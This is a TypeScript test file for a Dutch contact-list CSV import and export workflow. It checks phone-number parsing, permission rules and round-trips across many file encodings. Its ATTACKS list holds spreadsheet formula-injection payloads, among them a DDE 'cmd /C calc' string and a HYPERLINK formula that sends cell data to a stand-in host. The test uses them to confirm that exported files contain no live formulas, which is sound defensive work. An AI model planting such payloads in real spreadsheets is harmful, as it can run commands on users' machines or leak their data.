import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { rejectedFile } from '../../workflows/audience/rejected-file.ts';
import type { Contact } from '../../workflows/domain/contact.ts';
import { approachFile } from '../../workflows/permission/approach-file.ts';
import { channelsFor } from '../../workflows/permission/channels-for.ts';
import { readCsv } from './read-csv.ts';

/** Ten spellings of a number, as people, Excel, Word and Outlook write it. */
const NUMBERS = [
  ['+31 10 000 1001', '+31100001001'],
  ['0031-10-0001002', '+31100001002'],
  ['010 000 1003', '+31100001003'],
  ['(010) 000-1004', '+31100001004'],
  ['+31 (0)10 000 1005', '+31100001005'],
  ["'+31100001006", '+31100001006'],
  ['100001007', '+31100001007'],
  ['31100001008', '+31100001008'],
  ['010\u2011000\u00a01009', '+31100001009'],
  ['tel:+31-10-000-1010', '+31100001010'],
] as const;

/** What a spreadsheet would run. */
const ATTACKS = [
  '=HYPERLINK("https://x.example?"&A1;"klik")',
  "+31+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1;2)',
  '＝1＋1',
  '=cmd|\'/C "calc"\'!A0',
];

const HEADINGS = 'e-mail;voornaam;tussenvoegsel;achternaam;bedrijf;kvk;rechtsvorm;functie;straat;postcode;plaats;land';
const MORE = 'telefoon;bron;toestemming telefoon;toestemming telefoon datum;toestemming telefoon reden;opmerking';

function cells(): readonly (readonly string[])[] {
  const rows = NUMBERS.map(([written], index) => {
    const attack = ATTACKS[index % ATTACKS.length] ?? '';
    return [
      ...[`anna${index}@kade${index}.example`, index % 2 === 0 ? attack : 'Zoë', "van 't", `Møller ${index}`],
      ...[index % 3 === 0 ? `${attack} ${index}` : `Kade "Oost" ${index}; BV`, `000102${index}1`, 'BV', attack],
      ...['Kadeweg 1\nachter', '0811 AA', "'s-Gravenhage", 'NL', written, 'fair-tl-2026', 'business'],
      ...['12-11-2026', attack, 'kost 1.234,50; zie 1,5'],
    ];
  });
  return [[...HEADINGS.split(';'), ...MORE.split(';')], ...rows];
}

const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
const csv = (rows: readonly (readonly string[])[], delimiter: string, end: string, cell = quoted): string =>
  rows.map((row) => row.map(cell).join(delimiter) + end).join('');
/** Quotes only where they are needed, as Excel does it. */
const sparing = (delimiter: string) => (cell: string) =>
  cell.includes(delimiter) || /["\r\n]/.test(cell) ? quoted(cell) : cell;
const upper = ([headings = [], ...rows]: readonly (readonly string[])[]) => [headings.map(loud), ...rows];
const loud = (heading: string): string => ` ${heading.toUpperCase().replaceAll(' ', '_')} `;
const windows = (text: string): Uint8Array =>
  Uint8Array.from([...text.replaceAll('＝', '=').replaceAll('＋', '+')], (char) =>
    char === '\u2011' ? 0x2d : char.charCodeAt(0),
  );

const FILES: Readonly<Record<string, string | Uint8Array>> = {
  'commas, LF, every field quoted': csv(cells(), ',', '\n'),
  'semicolons, CRLF and a byte order mark, as Excel saves "CSV UTF-8"': `\ufeff${csv(cells(), ';', '\r\n', sparing(';'))}`,
  'commas, quotes only where needed': csv(cells(), ',', '\n', sparing(',')),
  'CR alone, as an old Mac': csv(cells(), ';', '\r'),
  'a line that names the delimiter': `sep=;\r\n${csv(cells(), ';', '\r\n')}`,
  'headings in capitals with blanks and underscores': csv(upper(cells()), ';', '\n'),
  'empty rows in between and at the end': `${csv(cells(), ';', '\n\n')}\n;;;;;;;;;;;;;;;;;\n`,
  'apostrophes before what could be a formula, as exports write them': csv(cells(), ';', '\n', (cell) =>
    quoted(/^[=+\-@＝]/.test(cell) ? `'${cell}` : cell),
  ),
  'hard spaces and zero-width marks around each field': csv(cells(), ';', '\n', (cell) =>
    quoted(`\u200b${cell}\u00a0 `),
  ),
  'no line end at the end': csv(cells(), ',', '\n').trimEnd(),
};

/** Without what only stands in the first file. */
function known({ note: _, more: _more, version: _version, organisation: _organisation, ...contact }: Contact) {
  return contact;
}

/** What a spreadsheet runs: an E.164 number is a number to it. */
function formulas(text: string): string[] {
  const rows: string[][] = parse(text, { delimiter: ';', bom: true, relax_column_count: true });
  return rows.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^\+\d{7,15}$/.test(cell));
}

describe('F49 export → import', () => {
  it.each(Object.entries(FILES))(
    'F49 %s: approach.csv reads back as the same people, and holds no formula',
    async (_how, file) => {
      const first = await readCsv(file);
      expect(first.rejected).toEqual([]);
      expect(first.contacts.map(({ phone }) => phone)).toEqual(NUMBERS.map(([, number]) => number));
      expect(first.contacts.map(({ lastName }) => lastName)).toEqual(NUMBERS.map((_, index) => `Møller ${index}`));
      expect(first.contacts[0]).toMatchObject({
        ...{ lastNamePrefix: "van 't", city: "'s-Gravenhage", postcode: '0811 AA', street: 'Kadeweg 1 achter' },
        phonePermission: { status: 'business', at: '2026-11-12', text: ATTACKS[0] },
        note: 'kost 1.234,50; zie 1,5',
      });
      let text = approachFile(first.contacts);
      for (const _again of [1, 2, 3]) {
        expect(formulas(text)).toEqual([]);
        const next = await readCsv(text);
        expect(next.rejected).toEqual([]);
        expect(next.contacts.map(known)).toEqual(first.contacts.map(known));
        expect(approachFile(next.contacts)).toBe(text);
        text = approachFile(next.contacts);
      }
    },
  );

  it('F49 Windows-1252, which knows neither wide signs nor every hyphen, is read the same', async () => {
    const { contacts, rejected } = await readCsv(windows(csv(cells(), ';', '\r\n', sparing(';'))));
    expect(rejected).toEqual([]);
    expect(contacts.map(({ phone, lastName }) => [phone, lastName])).toEqual(
      NUMBERS.map(([, number], index) => [number, `Møller ${index}`]),
    );
  });

  it('F49 M40 read back, nobody may be approached in a way that was closed: objections, law and suppression stay', async () => {
    const rows = ['NL', 'DE', 'DK', 'GB', ''].flatMap((country) =>
      ['objected', 'none', 'business', 'presumed', 'consent'].map(
        (phone) => `${country}${phone}@x.example;Vos;Kade BV;BV;${country};+31 10 000 1000;none;${phone};fair-tl-2026`,
      ),
    );
    const headings = 'email;lastName;organisation;legalForm;country;phone;emailPermission;phonePermission;source';
    const { contacts } = await readCsv(`${headings}\n${rows.join('\n')}\n`);
    const [suppressed, ...others] = contacts;
    if (!suppressed) throw new Error('nobody');
    const first = [{ ...suppressed, phonePermission: { status: 'business' as const }, objectedAt: 0 }, ...others];
    const next = await readCsv(approachFile(first));
    const open = (list: readonly Contact[]) =>
      list.map((contact) => {
        const { email, phone, letter } = channelsFor(contact);
        return [contact.email, email.allowed, phone.allowed, letter.allowed];
      });
    const mayNotBeMailed = first.filter((contact) => !channelsFor(contact).email.allowed);
    expect(mayNotBeMailed.length).toBeGreaterThan(15);
    expect(open(next.contacts)).toEqual(open(mayNotBeMailed));
  });

  it('F49 what was rejected is mended in the list of it and read again: every character as it stood', async () => {
    const sparingly = sparing(';');
    const rows = ATTACKS.map((attack, index) =>
      [attack, `a${index}@x.example`, NUMBERS[index]?.[0] ?? '', 'fair-tl-2026'].map(sparingly).join(';'),
    );
    const rejected = rows.map((original, index) => ({ line: index + 2, reason: 'organisation: empty.', original }));
    const text = rejectedFile(rejected);
    expect(formulas(text)).toEqual([]);
    const [, ...kept]: string[][] = parse(text, { delimiter: ';', bom: true });
    const originals = kept.map(([, , original = '']) => original);
    const { contacts } = await readCsv(`organisation;email;phone;source\n${originals.join('\n')}\n`);
    expect(contacts.map(({ organisationName, phone }) => [organisationName, phone])).toEqual(
      ATTACKS.map((attack, index) => [attack, NUMBERS[index]?.[1]]),
    );
  });

  it.each([
    ['UTF-16', Uint8Array.from(Buffer.from(`\ufeff${csv(cells(), ';', '\r\n')}`, 'utf16le')), 'this is UTF-16 text'],
    ['a workbook', 'PK\u0003\u0004', 'this is a workbook'],
    ['tabs', csv(cells(), '\t', '\n', sparing('\t')), 'no column for'],
  ])('F49 %s is refused with what to do, never half read', async (_what, file, message) => {
    const { contacts, problems } = await readCsv(file);
    expect(contacts).toEqual([]);
    const errors = problems.filter(({ severity }) => severity === 'error');
    expect(errors[0]?.message).toContain(message);
  });
});
